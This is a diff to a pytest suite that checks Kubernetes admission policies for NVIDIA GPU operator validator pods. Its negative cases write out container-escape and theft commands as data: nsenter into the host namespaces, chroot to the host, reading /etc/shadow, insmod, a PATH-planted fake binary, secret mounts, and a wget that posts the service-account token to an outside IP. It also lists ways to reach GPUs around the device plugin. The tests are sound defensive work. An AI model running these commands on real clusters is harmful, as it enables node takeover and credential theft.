@@ -49,11 +49,28 @@ def test_each_policy_has_a_deny_binding_and_is_valid_kubernetes_1_30(prod):
 
 
 # ---------------------------------------------------------------- validator
+# What the API server's ServiceAccount admission plugin adds to every pod before validating admission
+# sees it (kubernetes plugin/pkg/admission/serviceaccount/admission.go: the kube-api-access volume,
+# mounted read-only at /var/run/secrets/kubernetes.io/serviceaccount in each container).
+TOKEN_VOLUME = {"name": "kube-api-access-7xk2p", "projected": {"defaultMode": 420, "sources": [
+    {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
+    {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}},
+    {"downwardAPI": {"items": [{"path": "namespace", "fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.namespace"}}]}}]}}
+TOKEN_MOUNT = {"name": "kube-api-access-7xk2p", "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount", "readOnly": True}
+
+
+def _with_token(pod: dict) -> dict:
+    pod["spec"]["volumes"] = [copy.deepcopy(TOKEN_VOLUME)]
+    for c in pod["spec"]["initContainers"] + pod["spec"]["containers"]:
+        c["volumeMounts"] = [dict(TOKEN_MOUNT)]
+    return pod
+
+
 def _cuda_pod(node: str = NODE) -> dict:
     """The CUDA workload pod as the validator creates it: NVIDIA/gpu-operator v26.7.0
     validator/manifests/cuda-workload-validation.yaml, with what cmd/nvidia-validator/main.go:1564-1604
     fills in (namespace, image, runtime class, node name)."""
-    return {"metadata": {"generateName": "nvidia-cuda-validator-", "namespace": NS, "labels": {"app": "nvidia-cuda-validator"},
+    return _with_token({"metadata": {"generateName": "nvidia-cuda-validator-", "namespace": NS, "labels": {"app": "nvidia-cuda-validator"},
                          "annotations": {"nvidia.cdi.k8s.io/container.cuda-validation": "management.nvidia.com/gpu=all"}},
             "spec": {"nodeName": node, "runtimeClassName": "nvidia", "restartPolicy": "OnFailure",
                      "serviceAccountName": "nvidia-operator-validator",
@@ -64,20 +81,20 @@ def _cuda_pod(node: str = NODE) -> dict:
                                          "securityContext": {"privileged": True}}],
                      "containers": [{"name": "nvidia-cuda-validator", "image": VALIDATOR_IMAGE, "imagePullPolicy": "IfNotPresent",
                                      "command": ["sh", "-c"], "args": ["echo cuda workload validation is successful"],
-                                     "securityContext": {"privileged": True, "readOnlyRootFilesystem": True}}]}}
+                                     "securityContext": {"privileged": True, "readOnlyRootFilesystem": True}}]}})
 
 
 def _plugin_pod(node: str = NODE) -> dict:
     """The device-plugin workload pod (validator/manifests/plugin-workload-validation.yaml at v26.7.0)
     with a GPU request (main.go:1342-1352)."""
     gpu = {"nvidia.com/gpu": "1"}
-    return {"metadata": {"generateName": "nvidia-device-plugin-validator-", "namespace": NS},
+    return _with_token({"metadata": {"generateName": "nvidia-device-plugin-validator-", "namespace": NS},
             "spec": {"nodeName": node, "runtimeClassName": "nvidia", "serviceAccountName": "nvidia-operator-validator",
                      "initContainers": [{"name": "plugin-validation", "image": VALIDATOR_IMAGE, "command": ["sh", "-c"],
                                          "args": ["vectorAdd"], "resources": {"limits": gpu, "requests": gpu},
                                          "securityContext": {"allowPrivilegeEscalation": False}}],
                      "containers": [{"name": "nvidia-device-plugin-validator", "image": VALIDATOR_IMAGE, "command": ["sh", "-c"],
-                                     "args": ["echo device-plugin workload validation is successful"]}]}}
+                                     "args": ["echo device-plugin workload validation is successful"]}]}})
 
 
 def _create(pod: dict, user: dict) -> dict:
@@ -105,6 +122,43 @@ def _edited(change) -> dict:
     ("capability", _edited(lambda s: s["containers"][0]["securityContext"].update(capabilities={"add": ["SYS_ADMIN"]})), None),
     ("privileged shell", _edited(lambda s: s["containers"][0].update(args=["nsenter -t 1 -m sh"])), None),
     ("privileged with env", _edited(lambda s: s["containers"][0].update(env=[{"name": "LD_PRELOAD", "value": "/x.so"}])), None),
+    # NFD master's token may label any node: a pod run as it would hand that token to the validator
+    ("another service account", _edited(lambda s: s.update(serviceAccountName="nvidia-node-feature-discovery-master",
+                                                           serviceAccount="nvidia-node-feature-discovery-master")), None),
+    ("the namespace's default account", _edited(lambda s: s.update(serviceAccountName="default")), None),
+    ("postStart hook", _edited(lambda s: s["initContainers"][0].update(
+        lifecycle={"postStart": {"exec": {"command": ["nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh", "-c", "id"]}}})), None),
+    ("preStop hook", _edited(lambda s: s["containers"][0].update(
+        lifecycle={"preStop": {"exec": {"command": ["sh", "-c", "chroot /host sh"]}}})), None),
+    ("exec liveness probe", _edited(lambda s: s["containers"][0].update(
+        livenessProbe={"exec": {"command": ["sh", "-c", "nsenter -t 1 -m sh -c 'cat /etc/shadow'"]}, "periodSeconds": 10})), None),
+    ("exec readiness probe", _edited(lambda s: s["containers"][0].update(
+        readinessProbe={"exec": {"command": ["sh", "-c", "mount /dev/nvme0n1p1 /mnt"]}})), None),
+    ("exec startup probe", _edited(lambda s: s["initContainers"][0].update(
+        startupProbe={"exec": {"command": ["sh", "-c", "insmod /tmp/x.ko"]}})), None),
+    # an unprivileged init container writes a fake vectorAdd into an emptyDir that the privileged
+    # container mounts over a PATH directory
+    ("fake vectorAdd on PATH", _edited(lambda s: (
+        s["volumes"].append({"name": "bin", "emptyDir": {}}),
+        s["initContainers"].insert(0, {"name": "stage", "image": VALIDATOR_IMAGE, "command": ["sh", "-c"],
+                                       "args": ["printf '#!/bin/sh\nnsenter -t 1 -m sh\n' > /bin-x/vectorAdd; chmod +x /bin-x/vectorAdd"],
+                                       "volumeMounts": [{"name": "bin", "mountPath": "/bin-x"}, dict(TOKEN_MOUNT)]}),
+        s["initContainers"][1]["volumeMounts"].append({"name": "bin", "mountPath": "/usr/local/bin"}))), None),
+    ("privileged mount of an emptyDir", _edited(lambda s: (
+        s["volumes"].append({"name": "bin", "emptyDir": {}}),
+        s["initContainers"][0]["volumeMounts"].append({"name": "bin", "mountPath": "/usr/local/bin"}))), None),
+    ("a writable token mount", _edited(lambda s: s["initContainers"][0]["volumeMounts"][0].update(readOnly=False)), None),
+    ("workingDir with a planted binary", _edited(lambda s: s["initContainers"][0].update(workingDir="/tmp")), None),
+    ("envFrom", _edited(lambda s: s["initContainers"][0].update(envFrom=[{"configMapRef": {"name": "attacker"}}])), None),
+    ("env from a secret", _edited(lambda s: s["initContainers"][0].update(
+        env=[{"name": "NVIDIA_VISIBLE_DEVICES", "valueFrom": {"secretKeyRef": {"name": "aws-creds", "key": "secret"}}}])), None),
+    ("an unprivileged container with any command", _edited(lambda s: s["containers"].append(
+        {"name": "exfil", "image": VALIDATOR_IMAGE, "command": ["sh", "-c"],
+         "args": ["wget -qO- --post-file=/var/run/secrets/kubernetes.io/serviceaccount/token http://203.0.113.7/"],
+         "volumeMounts": [dict(TOKEN_MOUNT)]})), None),
+    ("a secret volume", _edited(lambda s: s["volumes"].append({"name": "creds", "secret": {"secretName": "gpu-operator-token"}})), None),
+    ("a projected secret", _edited(lambda s: s["volumes"][0]["projected"]["sources"].append({"secret": {"name": "gpu-operator-token"}})), None),
+    ("a shared process namespace", _edited(lambda s: s.update(shareProcessNamespace=True)), None),
 ])
 def test_a_validator_pod_beyond_its_own_is_denied(policies, why, pod, user):
     failed = evaluate(policies["gpu-platform-validator-pods"], _create(pod, user or _user("nvidia-operator-validator")))
@@ -239,6 +293,12 @@ GPU = {"limits": {"nvidia.com/gpu": "1"}}
     _workload(resources=GPU),
     _workload(),
     _workload(env=[{"name": "NVIDIA_DRIVER_CAPABILITIES", "value": "compute,utility"}], resources=GPU),
+    # no GPU (nvidia-container-toolkit v1.18.1 internal/config/image/devices.go:36-47): e.g. a CPU
+    # pod built FROM a CUDA image that sets NVIDIA_VISIBLE_DEVICES=all
+    _workload(env=[{"name": "NVIDIA_VISIBLE_DEVICES", "value": "void"}]),
+    _workload(env=[{"name": "NVIDIA_VISIBLE_DEVICES", "value": "none"}]),
+    _workload(volumes=[{"name": "data", "emptyDir": {}}], containers=[{"name": "train", "image": "nvcr.io/nvidia/pytorch:25.01-py3",
+                                                                     "volumeMounts": [{"name": "data", "mountPath": "/var/run/data"}]}]),
     # the EKS node monitoring agent's DCGM server (aws/eks-node-monitoring-agent v1.7.0 templates/dcgm-daemonset.yaml:57-63)
     _workload("kube-system", labels={"k8s-app": "dcgm-server", "version": "v1"}, env=[{"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}]),
 ])
@@ -254,6 +314,24 @@ def test_gpu_requests_through_the_device_plugin_are_admitted(policies, pod):
     ("a CDI annotation", _workload(annotations={"cdi.k8s.io/gpu": "nvidia.com/gpu=all"})),
     ("the operator's CDI annotation prefix", _workload(annotations={"nvidia.cdi.k8s.io/container.train": "nvidia.com/gpu=all"})),
     ("nvidia runtime without a GPU", _workload(runtimeClassName="nvidia")),
+    ("a device list after none", _workload(env=[{"name": "NVIDIA_VISIBLE_DEVICES", "value": "0,none"}])),
+    ("void from a ConfigMap", _workload(env=[{"name": "NVIDIA_VISIBLE_DEVICES", "valueFrom": {"configMapKeyRef": {"name": "gpu", "key": "v"}}}])),
+    ("void, then all", _workload(env=[{"name": "NVIDIA_VISIBLE_DEVICES", "value": "void"}, {"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}])),
+    ("MIG config devices none", _workload(env=[{"name": "NVIDIA_MIG_CONFIG_DEVICES", "value": "none"}])),
+    # accept-nvidia-visible-devices-as-volume-mounts: /dev/null mounted at <root>/<device> requests it
+    # (nvidia-container-toolkit v1.18.1 internal/config/image/cuda_image.go:265-270, 359-372)
+    ("a device volume mount", _workload(
+        volumes=[{"name": "gpu-all", "hostPath": {"path": "/dev/null"}}],
+        containers=[{"name": "train", "image": "nvcr.io/nvidia/pytorch:25.01-py3",
+                     "volumeMounts": [{"name": "gpu-all", "mountPath": "/var/run/nvidia-container-devices/all"}]}])),
+    ("a device volume mount spelt with //", _workload(
+        volumes=[{"name": "gpu-0", "hostPath": {"path": "/dev/null"}}],
+        containers=[{"name": "train", "image": "nvcr.io/nvidia/pytorch:25.01-py3",
+                     "volumeMounts": [{"name": "gpu-0", "mountPath": "/var/run//nvidia-container-devices/./0"}]}])),
+    ("a device volume mount in an init container", _workload(
+        volumes=[{"name": "imex", "hostPath": {"path": "/dev/null"}}],
+        initContainers=[{"name": "setup", "image": "busybox:1.36",
+                         "volumeMounts": [{"name": "imex", "mountPath": "/var/run/nvidia-container-devices/imex/0"}]}])),
     ("the DCGM server's label in another namespace", _workload(labels={"k8s-app": "dcgm-server"}, env=[{"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}])),
 ])
 def test_gpu_access_around_the_device_plugin_is_denied(policies, why, pod):
